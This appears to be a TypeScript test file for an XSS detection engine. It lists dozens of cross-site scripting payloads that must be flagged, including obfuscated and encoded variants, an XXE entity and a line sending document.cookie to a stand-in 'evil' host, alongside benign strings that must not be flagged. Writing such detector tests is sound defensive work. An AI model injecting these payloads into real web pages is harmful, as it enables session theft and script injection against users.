import { type Paranoia, SEVERITY_SCORE } from '../../engine/threat.types.js';
import { XSS_RULES } from './rules/xss-rules.js';
import { normalized } from './testing/xss-test-values.js';
import { xssDetector } from './xss.detector.js';

const ruleIds = (raw: string, paranoia: Paranoia = 1): string[] => xssDetector.detect(normalized(raw), paranoia).map((m) => m.ruleId);
const score = (raw: string, paranoia: Paranoia = 1): number =>
  xssDetector.detect(normalized(raw), paranoia).reduce((sum, m) => sum + SEVERITY_SCORE[m.severity], 0);

describe('xssDetector', () => {
  it.each([
    ['<script>alert(1)</script>', XSS_RULES.dangerousTag],
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />', XSS_RULES.dangerousTag],
    ['<iframe src=//evil>', XSS_RULES.dangerousTag],
    ['<embed src="deuce.swf">', XSS_RULES.dangerousTag],
    ['<BASE dsfds HREF / =', XSS_RULES.dangerousTag],
    ['<xml id=x><i><b><img src="x"></b></i></xml><span datasrc=#x>', XSS_RULES.dangerousTag],
    ['<img src=x onerror=alert(1)>', XSS_RULES.eventHandler],
    ['<xss onbeforehellfreezes=alerw(1)>', XSS_RULES.eventHandler],
    ['"><svg/onload=alert(1)>', XSS_RULES.eventHandler],
    ['x" onmouseover="alert(1)', XSS_RULES.eventHandler],
    ["' onselect=alert(1) '", XSS_RULES.eventHandler],
    ['Test/1.0 (compatible; onload=alert(document.domain))', XSS_RULES.eventHandler],
    ['  onabcdefgh= ', XSS_RULES.eventHandler],
    ['text/xml\n"onzoom=', XSS_RULES.eventHandler],
    ['<svg><set attributeName="onmouseover" to="alert(1)"/>', XSS_RULES.eventHandler],
    ['<IMG SRC= onmouseover="alert(1)">', XSS_RULES.eventHandler],
    ['<img/src=x/onerror=xxx', XSS_RULES.eventHandler],
    [' onmouseover="document.cookie=true;">//x', XSS_RULES.eventHandler],
    ['<LAYER SRC="http://evil.example/x.html"></LAYER>', XSS_RULES.dangerousTag],
    ['x" onfocus="window.location = 1"', XSS_RULES.eventHandler],
    ['<p style="expression(alert(1))">', XSS_RULES.cssScript],
    ['<a href="\u2028javascript:alert(1)">x</a>', XSS_RULES.scriptUrl],
    ['<a href="javascript:alert(1)">x</a>', XSS_RULES.scriptUrl],
    ['javascript:window.top._arachni_js_namespace_taint_tracer.log_execution_flow_sink()', XSS_RULES.scriptUrl],
    ["';window.top._tracer.log_sink();'", XSS_RULES.jsBreakCall],
    ['1;window.top._tracer.log_sink()', XSS_RULES.jsBreakCall],
    ["'-location.replace('//1653309246')-'", XSS_RULES.jsBreakCall],
    ["';location='//evil.example';'", XSS_RULES.jsBreakCall],
    ['";top.location.href=\'//evil.example\';//', XSS_RULES.jsBreakCall],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', XSS_RULES.scriptUrl],
    ['<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>', XSS_RULES.scriptUrl],
    ['<a href="vbscript:MsgBox 1">XSS</a>', XSS_RULES.scriptUrl],
    ['<button formaction=javascript:alert(1)>x', XSS_RULES.scriptUrl],
    ['<svg><animate attributeName=href values="https://x?&semi;javascript:alert(1)&semi;0" /></svg>', XSS_RULES.scriptUrl],
    ['[a](javascript:prompt(document.cookie))', XSS_RULES.scriptUrl],
    ["<javascript:alert('XSS')>", XSS_RULES.scriptUrl],
    ['javascript:alert(1)', XSS_RULES.scriptUrl],
    ['ja&tab;vascript:alert(1)', XSS_RULES.scriptUrl],
    ['<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', XSS_RULES.dataUrl],
    ['<iframe src="data:;base64,PHN2Zz4=">', XSS_RULES.dataUrl],
    ['data:text/html,<script>alert(1)</script>', XSS_RULES.dataUrl],
    ['<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', XSS_RULES.srcdoc],
    ['<p style="background:url(javascript:alert(1))">', XSS_RULES.cssScript],
    ['<div style="x:expr/**/ession(alert(1))">', XSS_RULES.cssScript],
    ['<!DOCTYPE r [ <!ENTITY % x SYSTEM "http://evil/"> %x; ]>', XSS_RULES.xmlEntity],
    ['foo<f o r m', XSS_RULES.spacedTag],
    ['<meta http-equiv="refresh" content="0;url=//evil">', XSS_RULES.metaRefresh],
    ['<!--#exec cmd="id"-->', XSS_RULES.serverSideInclude],
    ["';alert(1)//", XSS_RULES.jsBreakCall],
    [';confirm()//\\', XSS_RULES.jsBreakCall],
    ['});};confirm()//\\', XSS_RULES.jsBreakCall],
    ['*/;prompt()//', XSS_RULES.jsBreakCall],
    ['alert(document.cookie)', XSS_RULES.jsProbeCall],
    ["self['al'+'ert'](1)", XSS_RULES.jsObfuscatedAccess],
    ["this['ale'+'rt'](this['doc'+'ument']['dom'+'ain'])", XSS_RULES.jsObfuscatedAccess],
    [';alert.call(null,1);//', XSS_RULES.jsProbeCall],
    ['prompt.apply(null,[1])', XSS_RULES.jsProbeCall],
    ["[].constructor.constructor('alert(1)')()", XSS_RULES.jsFunctionConstructor],
    ['[].map.call`${eval}\\u{61}lert\\x281337\\x29`', XSS_RULES.jsTaggedTemplate],
    ['[1].find(alert)', XSS_RULES.jsSinkAsValue],
    ["eval(atob('YWxlcnQoMSk='))", XSS_RULES.jsEvalDecoded],
    ['[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]', XSS_RULES.jsFuck],
    ["{{constructor.constructor('alert(1)')()}}", XSS_RULES.angularSandbox],
    ["new Image().src='//evil?c='+document.cookie", XSS_RULES.cookieExfiltration],
    ['print(document.domain)', XSS_RULES.jsDomSource],
    ['<svg><set attributeName="xlink:href" to="//evil/?a" /></svg>', XSS_RULES.svgAnimatedLink],
    ['<?xml-stylesheet type="text/xsl" href="#"?><x/>', XSS_RULES.xslStylesheet],
    ['<math><a xlink:href="//evil/">click', XSS_RULES.xlinkHref],
    ['%3Cscript%3Ealert(1)%3C/script%3E', XSS_RULES.dangerousTag],
    ['＜script＞alert(1)＜/script＞', XSS_RULES.dangerousTag],
    ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', XSS_RULES.dangerousTag],
    ['\\xbcscript\\xbealert(1)\\xbc/script\\xbe', XSS_RULES.dangerousTag],
    ['<script>alert</script>', XSS_RULES.dangerousTag],
    ['<script>\nalert`1`', XSS_RULES.dangerousTag],
    ['\'\';!--"<XSS>=&{()}', XSS_RULES.probeTag],
    ['" oncancel=alert(1) x="', XSS_RULES.eventHandler],
    ['x" onclick=(alert)(1) y="', XSS_RULES.eventHandler],
    ['`${alert(1)}`', XSS_RULES.jsProbeCall],
    ['" var onfocus=alert(1) autofocus x="', XSS_RULES.eventHandler],
    ['`<script>`;alert(1)//', XSS_RULES.dangerousTag],
    ['eval.call `${alert(1)}`', XSS_RULES.jsTaggedTemplate],
    ["this['alert'](4)", XSS_RULES.jsObfuscatedAccess],
    ['top[8680439..toString(30)](1)', XSS_RULES.jsObfuscatedAccess],
  ])('detects %j with its rule at paranoia 1, scoring at least 5', (raw, rule) => {
    expect(ruleIds(raw)).toContain(rule.id);
    expect(score(raw)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    'a<b>c',
    'if (a<b && c>d) return a;',
    "O'Brien's \"quoted\" text; it's fine (really).",
    'The onload event fires when the page loads.',
    'Set onboarding=true in your config file',
    'onboarding=location=home&cookie=yes',
    'VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=',
    '  onthisisaverylongwordthathasmorethanfiftycharactersss= ',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0onload=.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    'javascript: the good parts',
    'for loop in javascript',
    '/get/javascript-manual/document.cookie',
    'style=background:url(http://example.com/x)',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'BLAH <A HREF="/PATH1/PATH2">FOO</A>',
    '<a href=/online/onboarding=1>x</a>',
    '<p>Hello <b>world</b></p>',
    'john.doe+tag@example.com',
    'Email me at <bob@example.com>',
    'I <3 JavaScript',
    "if (x) { alert('Saved!'); }",
    'The alert() function shows a dialog',
    '; see confirm() in the docs',
    'JavaScript: the good parts, a book by Douglas Crockford (2008) which everyone should read once',
    'f"<asyncio.TransportSocket fd={self.fileno()}, "',
    "it's; window.open() is fine",
    "x = this['a'+'b'](c)",
    '}; alert() below',
    'setTimeout(refresh, 1000);',
    '{{ user.name }}',
    '![](https://example.com/img.png)',
    "document.querySelector('#x').addEventListener('click', () => alert('hi'));",
    'print(", ".join(open(path).read().split()))',
    '#include <stdio.h>',
    'template <typename T> T max(T a, T b) { return a > b ? a : b; }',
    'user_onboarding=true&on_hold=false',
    'Give the button onclick=save and it submits',
    'It\'s done; set onload=init in the config',
    'return `Hello ${user.name}!`;',
    'the <script> tag is dangerous',
    'The <style> element holds CSS.',
    'the <iframe> element embeds another page',
    'const onClick = () => setOpen(!open);',
    '<Button onClick={handleClick}>Save</Button>',
    '`${price} USD`',
    "var onExit = require('signal-exit')",
    "const onFinished = require('on-finished');",
    'You may call `cache.set(key, undefined)`, but this is just',
    'browsers which do not recognize `<script>` tags',
    'const id = Math.random().toString(36).slice(2);',
    "this['handler'](evt)",
    'Bearer DtNJ2XBkxK00zNilXAXaE5b7CLdUVTAwJ101+ONWTiY=',
    'x ONWTiY=',
    "it's location.replace() in the docs",
    'Ship to location A; then location.B',
    "O'Brien; location=Dublin",
    "Don't set location = null; it's fine",
  ])('leaves %j below the blocking score at paranoia 1', (raw) => {
    expect(score(raw)).toBeLessThan(5);
  });

  it('keeps weak signals for higher paranoia levels', () => {
    expect(ruleIds('<svg>', 1)).toEqual([]);
    expect(ruleIds('<svg>', 2)).toContain(XSS_RULES.riskyTag.id);
    expect(ruleIds('read document.cookie in the console', 1)).toEqual([]);
    expect(ruleIds('read document.cookie in the console', 2)).toContain(XSS_RULES.jsSensitiveProperty.id);
    expect(ruleIds('<b>bold</b>', 3)).not.toContain(XSS_RULES.anyTag.id);
    expect(ruleIds('<b>bold</b>', 4)).toContain(XSS_RULES.anyTag.id);
  });

  it('reports a rule once even when several forms match, with its level and class', () => {
    const matches = xssDetector.detect({ raw: '<script>', forms: ['<script>', '<SCRIPT>', '&lt;script&gt;'] }, 1);
    expect(matches.filter((m) => m.ruleId === XSS_RULES.dangerousTag.id)).toHaveLength(1);
    expect(matches[0]).toMatchObject({ class: 'xss', kind: 'xss', severity: 'critical', paranoia: 1 });
  });

  it('scans every form, not only the raw one', () => {
    expect(xssDetector.detect({ raw: 'x', forms: ['harmless', '<img src=x onerror=alert(1)>'] }, 1).map((m) => m.ruleId)).toContain(
      XSS_RULES.eventHandler.id,
    );
  });

  it('keeps fragments to 64 characters', () => {
    const matches = xssDetector.detect(normalized(`<img src=x onerror="${'a'.repeat(200)}">`), 4);
    expect(matches.length).toBeGreaterThan(0);
    expect(matches.every((m) => m.fragment.length <= 64)).toBe(true);
  });

  it('gives every rule a unique xss-NNN id', () => {
    const ids = Object.values(XSS_RULES).map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.every((id) => /^xss-\d{3}$/.test(id))).toBe(true);
  });
});
